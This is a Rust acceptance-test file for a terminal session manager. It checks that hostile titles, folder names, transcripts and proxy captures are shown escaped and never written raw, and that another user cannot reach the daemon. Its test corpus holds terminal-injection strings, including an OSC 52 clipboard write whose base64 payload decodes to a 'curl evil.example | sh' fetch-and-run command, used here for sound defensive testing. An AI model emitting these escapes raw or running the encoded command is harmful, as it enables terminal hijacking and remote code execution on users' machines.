//! Issue 18 acceptance, untrusted text (DESIGN.md rule 11): a corpus of
//! hostile strings (terminal escapes, OSC 52 clipboard writes, OSC 8 links,
//! DCS, C1 controls, bidi overrides, tag characters, zero-width joiners, a
//! 10,000-character title, folder names that are not UTF-8) goes in through
//! every door a user or an agent has (titles from `new --title`, tab names,
//! imported workspaces, folder names, transcripts the agent writes, capture
//! files the proxy writes) and out through every human command, the
//! notifications and the TUI. No raw control character from it may reach
//! stdout or stderr: only the '\n' hangar's own formatting emits. The data
//! itself stays as it was (`--json` returns it exactly).

use crate::pty_screen;
use crate::support;

use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;
use std::process::Output;

use pty_screen::PtyApp;
use serde_json::{Value, json};
use support::*;

/// The hostile strings, each with what a person must see instead.
const CORPUS: &[(&str, &str)] = &[
    ("\x1b]2;PWNED-TITLE\x07", "\\u{1b}]2;PWNED-TITLE\\u{7}"),
    ("\x1b[2JCLEARED", "\\u{1b}[2JCLEARED"),
    (
        "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
        "\\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u{7}",
    ),
    (
        "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
        "\\u{1b}]8;;https://evil.example/\\u{1b}\\\\click\\u{1b}]8;;\\u{1b}\\\\",
    ),
    ("\x1bP$q\"p\x1b\\DCS", "\\u{1b}P$q\"p\\u{1b}\\\\DCS"),
    (
        "C1\u{9b}6n\u{90}x\u{9c}\u{85}",
        "C1\\u{9b}6n\\u{90}x\\u{9c}\\u{85}",
    ),
    (
        "bidi\u{202e}txt.exe\u{202c}\u{2066}a\u{2069}\u{200e}\u{200f}\u{061c}",
        "bidi\\u{202e}txt.exe\\u{202c}\\u{2066}a\\u{2069}\\u{200e}\\u{200f}\\u{61c}",
    ),
    ("tags\u{E0068}\u{E0069}", "tags\\u{e0068}\\u{e0069}"),
    (
        "del\x7fbel\x07bs\x08cr\rlf\nend",
        "del\\u{7f}bel\\u{7}bs\\u{8}cr\\rlf\\nend",
    ),
    // Harmless: shown as it is.
    ("👩\u{200d}💻 日本 café", "👩\u{200d}💻 日本 café"),
];

/// What hangar's own formatting may emit: newlines, nothing else.
fn terminal_obeys(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}' | '\u{E0000}'..='\u{E007F}')
}

/// Every raw character a terminal would obey in `bytes`, described.
fn raw_controls(bytes: &[u8]) -> Vec<String> {
    let text = match std::str::from_utf8(bytes) {
        Ok(t) => t,
        Err(e) => return vec![format!("a byte that is not UTF-8 at {}", e.valid_up_to())],
    };
    text.char_indices()
        .filter(|(_, c)| terminal_obeys(*c))
        .map(|(i, c)| format!("U+{:04X} at {i}", c as u32))
        .collect()
}

/// Asserts that neither stdout nor stderr of `out` holds a raw control.
fn assert_clean(what: &str, out: &Output) {
    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let found = raw_controls(bytes);
        assert!(
            found.is_empty(),
            "`{what}` wrote raw control characters to {stream}: {found:?}\n{}",
            String::from_utf8_lossy(bytes).escape_debug()
        );
    }
}

/// Runs `hangar ARGS` (success or not), asserts its output clean, returns
/// stdout and stderr as text.
fn clean(h: &Hangar, args: &[&str]) -> (String, String) {
    let out = h.run(args);
    assert_clean(&args.join(" "), &out);
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// `clean`, and the command succeeded.
fn clean_ok(h: &Hangar, args: &[&str]) -> String {
    let out = h.run(args);
    assert_clean(&args.join(" "), &out);
    assert!(
        out.status.success(),
        "`hangar {}` failed: {}",
        args.join(" "),
        String::from_utf8_lossy(&out.stderr).escape_debug()
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn long_title() -> String {
    format!("long{}", "\u{202e}x".repeat(5_000))
}

/// A hangar export (the format `hangar import hangar` reads) with one tab
/// per corpus string, titled with it, holding one parked claude session
/// titled with it; the first two share one hostile provider session id (a
/// duplicate `doctor` reports), the others have hostile ids of their own.
/// Every session was last active long ago, so `evict` lists them all.
fn hostile_workspace(cwd: &Path) -> Value {
    let cwd = cwd.display().to_string();
    let mut tabs = Vec::new();
    let mut sessions = serde_json::Map::new();
    let mut parked = serde_json::Map::new();
    let mut titles: Vec<String> = CORPUS.iter().map(|(s, _)| (*s).to_owned()).collect();
    titles.push(long_title());
    for (i, title) in titles.iter().enumerate() {
        let (tab, id) = (format!("t{i}"), format!("s{i}"));
        let psid = if i < 2 {
            "conv\x1b]2;PSID\x07".to_owned()
        } else {
            format!("conv{i}{title}")
        };
        tabs.push(json!({"id": tab, "title": title, "cwd": cwd}));
        sessions.insert(
            id.clone(),
            json!({"id": id, "provider": "claude", "cwd": cwd, "title": title,
                   "provider_session": {"id": psid, "source": "transcript"},
                   "created_at_ms": 1_700_000_000_000u64,
                   "last_active_ms": 1_700_000_000_000u64}),
        );
        parked.insert(id.clone(), json!({"session": id, "tab": tab}));
    }
    json!({
        "format": "hangar-workspace",
        "version": 1,
        "workspace": {
            "tabs": tabs,
            "active_tab": "t0",
            "sessions": sessions,
            "parked": parked,
        }
    })
}

#[test]
fn every_listing_shows_hostile_titles_tab_names_and_ids_escaped_and_keeps_them_unchanged() {
    let h = Hangar::new();
    let file = h.root.join("hostile.json");
    fs::write(&file, hostile_workspace(&h.work).to_string()).unwrap();
    let file = file.to_str().unwrap();
    // Offline import (no daemon yet), then the daemon restores it.
    clean_ok(&h, &["import", "hangar", file]);
    h.start_daemon();
    // One more, typed at the CLI, in a live pane.
    let (hostile, shown) = CORPUS[0];
    let live = h.new_agent(&["--provider", "claude", "--title", hostile]);
    h.wait_screen(&live, "> ");

    let ls = clean_ok(&h, &["ls"]);
    for (_, shown) in CORPUS {
        // A title longer than its column is cut: its start is shown.
        let shown: String = shown.chars().take(25).collect();
        assert!(ls.contains(&shown), "ls lacks {shown:?}:\n{ls}");
    }
    // A 10,000-character title is cut to its column with a marker.
    assert!(ls.lines().all(|l| l.chars().count() < 400), "{ls}");
    assert!(ls.contains("long\\u{202e}x\\u{202e}x"), "{ls}");
    assert!(ls.contains('…'), "{ls}");

    // The data is stored and returned unchanged; --json is JSON-escaped.
    let json = clean_ok(&h, &["--json", "ls"]);
    let rows: Value = serde_json::from_str(&json).unwrap();
    let title_of = |id: &str| -> String {
        rows.as_array()
            .unwrap()
            .iter()
            .find(|r| r["id"] == id)
            .unwrap_or_else(|| panic!("{id} is not listed: {rows}"))["title"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    for (i, (hostile, _)) in CORPUS.iter().enumerate() {
        assert_eq!(title_of(&format!("s{i}")), *hostile);
    }
    assert_eq!(title_of(&format!("s{}", CORPUS.len())), long_title());
    assert_eq!(title_of(&live), hostile);

    let tabs = clean_ok(&h, &["tab", "ls"]);
    for (_, shown) in CORPUS {
        let shown: String = shown.chars().take(25).collect();
        assert!(tabs.contains(&shown), "tab ls lacks {shown:?}:\n{tabs}");
    }
    let tab_rows: Value = serde_json::from_str(&clean_ok(&h, &["--json", "tab", "ls"])).unwrap();
    assert_eq!(tab_rows[0]["title"], CORPUS[0].0);

    let status = clean_ok(&h, &["status"]);
    assert!(status.contains("conv\\u{1b}]2;PSID\\u{7}"), "{status}");
    clean_ok(&h, &["--json", "status"]);

    let (doctor, _) = clean(&h, &["doctor"]);
    assert!(
        doctor.contains("conv\\u{1b}]2;PSID\\u{7}") && doctor.contains(shown),
        "{doctor}"
    );
    clean(&h, &["--json", "doctor"]);

    let evict = clean_ok(&h, &["evict", "--parked-older-than", "1d", "--dry-run"]);
    assert!(
        evict.contains(CORPUS[1].1) && evict.contains('…'),
        "{evict}"
    );
    clean_ok(
        &h,
        &["--json", "evict", "--parked-older-than", "1d", "--dry-run"],
    );

    // Renaming a tab and a new parked session, typed at the CLI.
    clean_ok(&h, &["tab", "rename", "t1", CORPUS[4].0]);
    let parked = h.new_agent(&["--parked", "--tab", "t1", "--title", CORPUS[5].0]);
    assert_eq!(h.session(&parked)["title"], CORPUS[5].0);
    assert!(clean_ok(&h, &["tab", "ls"]).contains(CORPUS[4].1));

    clean_ok(&h, &["journal"]);
    clean_ok(&h, &["--json", "journal"]);
    clean_ok(&h, &["journal", "summarize"]);
    clean_ok(&h, &["worktrees"]);
    clean_ok(&h, &["export"]);
    clean_ok(&h, &["wait", &live, "--until", "idle", "--timeout", "30s"]);

    // Error messages carry what was typed or stored: escaped too.
    // The daemon quotes what it was given ("..." with `"` escaped too),
    // in the same notation.
    for (hostile, _) in CORPUS.iter().take(9) {
        let (_, err) = clean(&h, &["close", hostile]);
        let quoted = format!("{:?}", hostile.trim());
        assert!(err.contains(&quoted), "close error lacks {quoted}: {err}");
        clean(&h, &["tab", "close", hostile]);
        clean(&h, &["send", hostile, "hi"]);
    }
    let missing = h.root.join(format!("gone{}", CORPUS[0].0));
    let (_, err) = clean(&h, &["new", "--cwd", missing.to_str().unwrap()]);
    assert!(err.contains(CORPUS[0].1), "{err}");

    // close-idle names what it closes and skips.
    clean(&h, &["close-idle", "--older-than", "1d", "--yes"]);
    assert!(h.daemon_pid_opt().is_some(), "the daemon stays up");
}

#[test]
fn an_agent_code_file_with_hostile_titles_and_ids_imports_with_an_escaped_report() {
    let h = Hangar::new();
    let mut doc: Value = serde_json::from_str(include_str!(
        "../../../hangar-store/tests/fixtures/agent-code/v1-may-2026.json"
    ))
    .unwrap();
    // Every title in the real-shaped fixture becomes a hostile one.
    fn retitle(v: &mut Value, n: &mut usize) {
        match v {
            Value::Object(map) => {
                for (k, v) in map.iter_mut() {
                    if (k == "title" || k == "name") && v.is_string() {
                        *v = Value::String(CORPUS[*n % CORPUS.len()].0.to_owned());
                        *n += 1;
                    } else {
                        retitle(v, n);
                    }
                }
            }
            Value::Array(items) => items.iter_mut().for_each(|i| retitle(i, n)),
            _ => {}
        }
    }
    let mut n = 0;
    retitle(&mut doc, &mut n);
    assert!(n > 0, "the fixture has titles");
    let file = h.root.join("agent-code.json");
    fs::write(&file, doc.to_string()).unwrap();
    clean_ok(&h, &["import", "agent-code", file.to_str().unwrap()]);
    let ls = clean_ok(&h, &["ls"]);
    assert!(ls.contains(CORPUS[0].1), "{ls}");
    clean_ok(&h, &["tab", "ls"]);
}

/// `hangar ls` rows (JSON) whose title is `title`.
fn id_titled(h: &Hangar, title: &str) -> String {
    h.ls()
        .into_iter()
        .find(|r| r["title"] == title)
        .and_then(|r| r["id"].as_str().map(str::to_owned))
        .unwrap_or_else(|| panic!("no session titled {title:?}"))
}

#[test]
fn transcripts_and_captured_traffic_from_models_are_shown_escaped_with_their_lines_kept() {
    let h = Hangar::new();
    let a = h.new_agent(&["--provider", "claude", "--title", CORPUS[1].0]);
    assert_eq!(id_titled(&h, CORPUS[1].0), a);
    h.wait_screen(&a, "> ");
    h.ok(&["send", &a, "hello"]);
    h.wait_screen(&a, "answer: hello");
    let psid = h.wait_transcript_id(&a);
    let path = h.claude_transcript(&h.work, &psid);
    // The model's answer (as a web page it read could make it): the fake
    // agent's own last assistant line, its text replaced by the corpus.
    let text = fs::read_to_string(&path).unwrap();
    let mut answer: Value = text
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .rfind(|v| v["type"] == "assistant")
        .expect("the fake agent wrote an assistant line");
    let hostile: Vec<&str> = CORPUS.iter().map(|(s, _)| *s).collect();
    let hostile = hostile.join("\n");
    answer["message"]["content"] = json!([{"type": "text", "text": hostile}]);
    let mut file = fs::OpenOptions::new().append(true).open(&path).unwrap();
    std::io::Write::write_all(&mut file, format!("{answer}\n").as_bytes()).unwrap();

    let mut shown = String::new();
    h.wait_until("the transcript shows the hostile answer", DEADLINE, || {
        shown = clean_ok(&h, &["transcript", &a]);
        shown.contains("PWNED-TITLE")
    });
    // A body keeps backslashes and newlines as they are (code stays
    // readable); everything else reads as in a name.
    assert!(
        shown.contains("\\u{1b}]8;;https://evil.example/\\u{1b}\\click\\u{1b}]8;;\\u{1b}\\\n"),
        "{shown}"
    );
    for (hostile, escaped) in CORPUS {
        if hostile.contains(['\\', '\n']) {
            continue;
        }
        assert!(
            shown.contains(escaped),
            "transcript lacks {escaped:?}:\n{shown}"
        );
    }
    // A body keeps its own lines: each corpus string starts one.
    assert!(
        shown.lines().any(|l| l == "\\u{1b}[2JCLEARED"),
        "the answer's lines are kept:\n{shown}"
    );
    let v: Value = serde_json::from_str(&clean_ok(&h, &["--json", "transcript", &a])).unwrap();
    let last = v["messages"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(last["text"], hostile.as_str(), "the data is unchanged");

    // A capture file in the shapes the proxy records (see the daemon's
    // proxy/relay.rs: request, response, chunk, error, end events): host,
    // path, stream data and errors all come from outside.
    let dir = h.home.join("capture").join(&a);
    fs::create_dir_all(&dir).unwrap();
    let events = [
        json!({"event": "request", "ts": 1, "exchange": 1, "method": "POST",
               "host": CORPUS[0].0, "path": format!("/v1/messages{}", CORPUS[6].0), "body_bytes": 2}),
        json!({"event": "response", "ts": 2, "exchange": 1, "status": 200}),
        json!({"event": "chunk", "ts": 3, "exchange": 1, "seq": 0, "bytes": 9,
               "data": format!("event: content_block_delta\ndata: {}", CORPUS[2].0), "truncated": false}),
        json!({"event": "error", "ts": 4, "exchange": 1, "message": CORPUS[4].0}),
        json!({"event": "end", "ts": 5, "exchange": 1, "chunks": 1, "bytes": 9, "duration_ms": 3,
               "usage": {"input_tokens": 1, "output_tokens": 2}, "error": CORPUS[5].0}),
        json!({"event": CORPUS[3].0, "ts": 6, "exchange": 1}),
    ];
    let lines: String = events.iter().map(|e| format!("{e}\n")).collect();
    fs::write(dir.join("2000-01-01.jsonl"), lines).unwrap();
    let capture = clean_ok(&h, &["capture", &a]);
    for (_, escaped) in [CORPUS[0], CORPUS[2], CORPUS[4], CORPUS[5], CORPUS[6]] {
        assert!(
            capture.contains(escaped),
            "capture lacks {escaped:?}:\n{capture}"
        );
    }
    let doc: Value = serde_json::from_str(&clean_ok(&h, &["--json", "capture", &a])).unwrap();
    assert_eq!(doc["events"][0]["host"], CORPUS[0].0);
}

#[test]
fn hostile_folder_names_show_escaped_and_a_name_that_is_not_utf8_is_refused_by_its_own_name() {
    let h = Hangar::new();
    // A repository cloned into a folder named by someone else.
    let repo = h.root.join(format!("repo{}{}", CORPUS[0].0, CORPUS[6].0));
    fs::create_dir_all(&repo).unwrap();
    git::git(&repo, &["init", "-q"]);
    fs::write(repo.join("file.txt"), "x\n").unwrap();
    git::git(&repo, &["add", "."]);
    git::git(&repo, &["commit", "-q", "-m", "first"]);
    let a = h.new_agent(&[
        "--provider",
        "claude",
        "--cwd",
        repo.to_str().unwrap(),
        "--worktree",
        "--title",
        "fix",
    ]);
    let wt = clean_ok(&h, &["worktrees"]);
    assert!(
        wt.contains("repo\\u{1b}]2;PWNED-TITLE\\u{7}bidi\\u{202e}"),
        "{wt}"
    );
    let ls = clean_ok(&h, &["ls"]);
    assert!(ls.contains("repo\\u{1b}]2;PWNED-TITLE\\u{7}"), "{ls}");
    clean_ok(&h, &["--json", "worktrees"]);
    let (_, err) = clean(&h, &["close", &a, "--yes"]);
    let _ = err;

    // Two folders whose names differ only in bytes that are not UTF-8:
    // each error names its own folder, never a lossy merge of both.
    let ff = h.root.join(OsStr::from_bytes(b"bad\xff"));
    let fe = h.root.join(OsStr::from_bytes(b"bad\xfe"));
    fs::create_dir_all(&ff).unwrap();
    fs::create_dir_all(&fe).unwrap();
    let refused = |dir: &Path| -> String {
        let out = h
            .command(&["new", "--parked", "--cwd"])
            .arg(dir)
            .output()
            .unwrap();
        assert!(
            !out.status.success(),
            "a folder that is not UTF-8 is refused"
        );
        assert_clean("new --cwd <not UTF-8>", &out);
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    let (eff, efe) = (refused(&ff), refused(&fe));
    assert!(
        eff.contains("bad\\xFF") && eff.contains("not valid UTF-8"),
        "{eff}"
    );
    assert!(efe.contains("bad\\xFE"), "{efe}");
    assert!(!eff.contains('\u{fffd}'), "{eff}");
    assert!(h.daemon_pid_opt().is_some(), "the daemon stays up");
}

#[test]
fn notifications_show_a_hostile_title_as_text_in_the_desktop_and_terminal_escapes() {
    // A stand-in `notify-send` first on the daemon's PATH records its argv.
    let bin = tempfile::tempdir().unwrap();
    let log = bin.path().join("notify-send.log");
    let script = bin.path().join("notify-send");
    fs::write(
        &script,
        format!("#!/bin/sh\nprintf '%s|' \"$@\" >> '{}'\n", log.display()),
    )
    .unwrap();
    fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let path = format!(
        "{}:{}",
        bin.path().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let h = Hangar::with_env(&[("PATH", &path)]);
    h.write_config("[activity]\ndebounce_ms = 200\n");
    let title = "\x1b]2;N\x07<a href=\"https://evil.example\">fix</a>\u{202e}";
    let a = h.new_agent(&["--provider", "claude", "--title", title]);
    let b = h.split(&a, "vertical");
    h.wait_screen(&a, "> ");
    h.wait_screen(&b, "> ");
    h.wait_until(&format!("{a} is idle"), DEADLINE, || {
        h.session(&a)["activity"] == "idle"
    });
    let term = PtyApp::spawn(h.command(&["attach", &b]), 24, 100);
    term.wait_text("fake-agent claude session");

    h.ok(&["send", &a, "ask which region"]);
    let shown = "\\u{1b}]2;N\\u{7}&lt;a href=\"https://evil.example\"&gt;fix&lt;/a&gt;\\u{202e}";
    let mut args = String::new();
    h.wait_until("notify-send ran", DEADLINE, || {
        args = fs::read_to_string(&log).unwrap_or_default();
        !args.is_empty()
    });
    assert_eq!(
        args,
        format!("--app-name=hangar|hangar|{shown} is waiting for you|")
    );
    let osc =
        "\\u{1b}]2;N\\u{7}<a href=\"https://evil.example\">fix</a>\\u{202e} is waiting for you";
    h.wait_until("the OSC 9 escape reached the client", DEADLINE, || {
        String::from_utf8_lossy(&term.raw_output()).contains(&format!("\x1b]9;hangar: {osc}\x07"))
    });
    let raw = term.raw_output();
    let raw = String::from_utf8_lossy(&raw);
    assert!(raw.contains(&format!("\x1b]777;notify;hangar;{osc}\x07")));
    assert!(
        !raw.contains("\x1b]2;N"),
        "the title's own escape was sent raw"
    );
    assert!(!raw.contains('\u{202e}'));
}

#[test]
fn the_tui_shows_hostile_tab_names_titles_and_parked_agents_as_visible_escapes() {
    let h = Hangar::new();
    h.ok(&["status"]);
    h.ok(&["tab", "new", CORPUS[0].0]);
    let a = h.new_agent(&["--provider", "claude", "--title", CORPUS[6].0]);
    h.new_agent(&["--provider", "claude", "--parked", "--title", CORPUS[2].0]);
    h.new_agent(&["--provider", "claude", "--parked", "--title", CORPUS[1].0]);
    h.new_agent(&["--provider", "claude", "--parked", "--title", &long_title()]);
    h.wait_screen(&a, "> ");
    let app = PtyApp::spawn(h.command(&[]), 36, 170);
    app.wait_for(
        "the tab name, pane title and parked titles as escapes",
        |t| {
            t.contains("\\u{1b}]2;PWNED-TITLE\\u{7}")
                && t.contains("bidi\\u{202e}txt.exe")
                && t.contains("\\u{1b}]52;c;")
                && t.contains("\\u{1b}[2JCLEARED")
                && t.contains("long\\u{202e}x")
                && t.contains("fake-agent claude session")
        },
    );
    let raw = app.raw_output();
    let text = String::from_utf8_lossy(&raw);
    for (needle, what) in [
        ("\x07", "BEL"),
        ("\x1b]", "an OSC sequence"),
        ("\x1bP", "a DCS sequence"),
        ("\x1b[2JCLEARED", "the title's clear-screen"),
    ] {
        assert!(!text.contains(needle), "the TUI wrote {what} raw");
    }
    let obeyed: Vec<char> = text
        .chars()
        .filter(|&c| c != '\x1b' && c != '\r' && c != '\n' && terminal_obeys(c))
        .collect();
    assert!(
        obeyed.is_empty(),
        "the TUI wrote controls other than its own escapes raw: {obeyed:?}"
    );
}

/// Runs a copy of `hangar ARGS` (placed where any user may run it) as the
/// unprivileged uid 65534 against `h`'s home.
fn as_another_user(h: &Hangar, args: &[&str]) -> Output {
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;
    let copy = h.root.join("other-user").join("hangar");
    if !copy.exists() {
        fs::create_dir_all(copy.parent().unwrap()).unwrap();
        fs::copy(hangar_bin(), &copy).unwrap();
        fs::set_permissions(copy.parent().unwrap(), fs::Permissions::from_mode(0o755)).unwrap();
        fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)).unwrap();
    }
    std::process::Command::new(&copy)
        .args(args)
        .env_clear()
        .env("HANGAR_HOME", &h.home)
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", "/")
        .current_dir("/")
        .stdin(std::process::Stdio::null())
        .uid(65534)
        .gid(65534)
        .output()
        .expect("run hangar as uid 65534")
}

#[test]
fn another_uid_can_neither_use_the_socket_nor_read_the_state() {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        hangar_testkit::required::missing(
            module_path!(),
            "switching to another uid needs root (CI runs as root)",
        );
        return;
    }
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;
    let h = Hangar::new();
    let daemon = h.start_daemon();
    h.new_agent(&["--parked", "--title", "mine"]);
    // The test's temp root is 0700 by tempfile; open it so that only
    // hangar's own modes stand between the other user and the home.
    fs::set_permissions(&h.root, fs::Permissions::from_mode(0o755)).unwrap();

    let out = as_another_user(&h, &["--json", "ls"]);
    assert!(!out.status.success(), "another uid listed the sessions");
    assert!(!String::from_utf8_lossy(&out.stdout).contains("mine"));
    let read = std::process::Command::new("cat")
        .arg(h.home.join("state.db"))
        .uid(65534)
        .gid(65534)
        .output()
        .unwrap();
    assert!(!read.status.success(), "another uid read the store");
    assert_eq!(h.daemon_pid(), daemon, "no second daemon was started");

    // Even with every folder and the socket opened up by hand, the daemon
    // checks the peer's uid and refuses.
    for p in [h.home.clone(), h.home.join("run")] {
        fs::set_permissions(&p, fs::Permissions::from_mode(0o755)).unwrap();
    }
    fs::set_permissions(
        h.home.join("run").join("hangar.sock"),
        fs::Permissions::from_mode(0o777),
    )
    .unwrap();
    let out = as_another_user(&h, &["--json", "ls"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "another uid listed the sessions");
    // The daemon answers "refused: the client runs as another user" and
    // hangs up; the client may read that or only meet the hang-up.
    assert!(err.contains("refused"), "{err}");
    assert!(!String::from_utf8_lossy(&out.stdout).contains("mine"));
    assert_eq!(h.daemon_pid(), daemon);
    assert_eq!(h.ls().len(), 1, "the daemon still serves its own user");
}
